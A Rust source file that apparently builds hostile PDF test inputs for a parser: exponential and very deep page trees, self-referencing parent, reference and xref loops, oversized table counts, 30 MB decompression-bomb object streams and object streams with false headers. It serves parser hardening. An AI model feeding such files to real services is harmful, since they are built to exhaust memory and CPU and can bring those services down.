//! Attacks by the structure of the file: trees, tables, references and object streams.

use super::one_page;
use crate::deflate;
use crate::file::{File, Storing};

/// A page tree thirty deep in which each node has its one child twice: a billion pages.
#[must_use]
pub fn exponential_tree() -> Vec<u8> {
    let mut file = File::default();
    let mut node = file.add("<</Type /Page /MediaBox [0 0 595 842]>>");
    for _ in 0..30 {
        node = file.add(format!("<</Type /Pages /Count 2 /Kids [{node} 0 R {node} 0 R]>>"));
    }
    let catalog = file.add(format!("<</Type /Catalog /Pages {node} 0 R>>"));
    file.write(catalog, None)
}

/// A page tree fifty thousand deep.
#[must_use]
pub fn deep_tree() -> Vec<u8> {
    let mut file = File::default();
    let mut node = file.add("<</Type /Page /MediaBox [0 0 595 842]>>");
    for _ in 0..50_000 {
        node = file.add(format!("<</Type /Pages /Count 1 /Kids [{node} 0 R]>>"));
    }
    let catalog = file.add(format!("<</Type /Catalog /Pages {node} 0 R>>"));
    file.write(catalog, None)
}

/// A page that is its own parent and inherits everything.
#[must_use]
pub fn parent_loop() -> Vec<u8> {
    let mut file = File::default();
    let page = file.reserve();
    file.set(page, format!("<</Type /Page /Parent {page} 0 R>>"));
    let tree = file.add(format!("<</Type /Pages /Count 1 /Kids [{page} 0 R]>>"));
    let catalog = file.add(format!("<</Type /Catalog /Pages {tree} 0 R>>"));
    file.write(catalog, None)
}

/// References that lead to each other.
#[must_use]
pub fn reference_loop() -> Vec<u8> {
    let mut file = File::default();
    let (one, other) = (file.reserve(), file.reserve());
    file.set(one, format!("{other} 0 R"));
    file.set(other, format!("{one} 0 R"));
    let more = format!("/Resources {one} 0 R /Rotate {one} 0 R /Annots {one} 0 R");
    one_page(&mut file, "", b"BT ET".to_vec(), &more)
}

/// A table of objects that says to be as long as numbers go.
#[must_use]
pub fn huge_table() -> Vec<u8> {
    let pdf = one_page(&mut File::default(), "", b"BT ET".to_vec(), "");
    let pdf = replaced(&pdf, b"/Size ", b"/Size 2147483647 % ");
    replaced(&pdf, b"xref\n0 ", b"xref\n0 2147483647 % ")
}

/// A table whose predecessor is itself.
#[must_use]
pub fn table_loop() -> Vec<u8> {
    let pdf = one_page(&mut File::default(), "", b"BT ET".to_vec(), "");
    let table = pdf.windows(6).position(|window| window == b"\nxref\n").unwrap_or(0) + 1;
    replaced(&pdf, b"trailer\n<<", format!("trailer\n<</Prev {table} ").as_bytes())
}

/// Many small objects and no table of them.
#[must_use]
pub fn bare_objects(count: usize) -> Vec<u8> {
    let mut pdf = b"%PDF-1.4\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n".to_vec();
    for number in 2..count {
        pdf.extend(format!("{number} 0 obj\n[0 0]\nendobj\n").bytes());
    }
    pdf.extend(b"trailer\n<</Root 1 0 R>>\n%%EOF\n");
    pdf
}

/// A hundred and fifty streams of objects that inflate to thirty megabytes each.
#[must_use]
pub fn object_streams() -> Vec<u8> {
    let mut file = File::default();
    let bytes = deflate::zlib_of(b" ", 30_000_000);
    for _ in 0..150 {
        let entries = "/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode";
        file.stream(entries, bytes.clone(), Storing::Plain);
    }
    one_page(&mut file, "", b"BT ET".to_vec(), "")
}

/// Streams of objects that lie about themselves.
#[must_use]
pub fn lying_object_streams() -> Vec<u8> {
    let mut file = File::default();
    for entries in [
        "/Type /ObjStm /N 2147483647 /First 4",
        "/Type /ObjStm /N -1 /First -1",
        "/Type /ObjStm /N 1 /First 2147483647",
        "/Type /ObjStm /N 1 /First 4 /Extends 4 0 R",
    ] {
        file.stream(entries, b"9 0 [4 0 R]".to_vec(), Storing::Plain);
    }
    one_page(&mut file, "", b"BT ET".to_vec(), "")
}

/// A page whose content is one empty stream, a million times.
#[must_use]
pub fn many_contents() -> Vec<u8> {
    let mut file = File::default();
    let empty = file.stream("", Vec::new(), Storing::Plain);
    let tree = file.reserve();
    let contents = format!("{empty} 0 R ").repeat(1_000_000);
    let page = file.add(format!(
        "<</Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Contents [{contents}]>>"
    ));
    file.set(tree, format!("<</Type /Pages /Count 1 /Kids [{page} 0 R]>>"));
    let catalog = file.add(format!("<</Type /Catalog /Pages {tree} 0 R>>"));
    file.write(catalog, None)
}

/// The file with the first place of `part` replaced.
fn replaced(pdf: &[u8], part: &[u8], by: &[u8]) -> Vec<u8> {
    let Some(at) = pdf.windows(part.len()).position(|window| window == part) else {
        return pdf.to_vec();
    };
    let (head, tail) = pdf.split_at(at);
    [head, by, tail.get(part.len()..).unwrap_or_default()].concat()
}
